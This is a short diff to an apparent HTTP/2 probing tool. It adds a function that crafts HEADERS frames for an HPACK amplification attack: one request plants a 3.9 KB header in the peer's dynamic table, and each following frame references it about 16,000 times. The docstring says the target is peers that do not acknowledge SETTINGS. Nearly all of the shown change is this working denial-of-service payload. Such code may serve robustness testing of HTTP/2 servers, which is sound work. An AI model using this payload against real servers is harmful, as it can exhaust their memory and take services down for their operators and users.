@@ -50,6 +50,15 @@ def post(stream, *more, path="/probe"):
     return frame(HEADERS, END_HEADERS, stream, block("POST", path, *more))
 
 
+def amplifying_requests(count):
+    """The first one's last field, of 3.9 KB, enters the dynamic table of HPACK; each of the others names it 16,000 times. For a peer that does not
+    acknowledge SETTINGS, and so may have a table."""
+    entry = b"\x40\x01a\x7f\xbd\x1d" + b"b" * 3900  # 127 + 0x3d + 0x1d * 128
+    first = frame(HEADERS, END_HEADERS | END_STREAM, 1, block() + entry)
+    named = block() + b"\xbe" * (16384 - len(block()))
+    return first + b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 3 + 2 * number, named) for number in range(count))
+
+
 class Connection:
     """frames: what has come, as (type, flags, stream, payload); is_over: the other side has closed."""
 
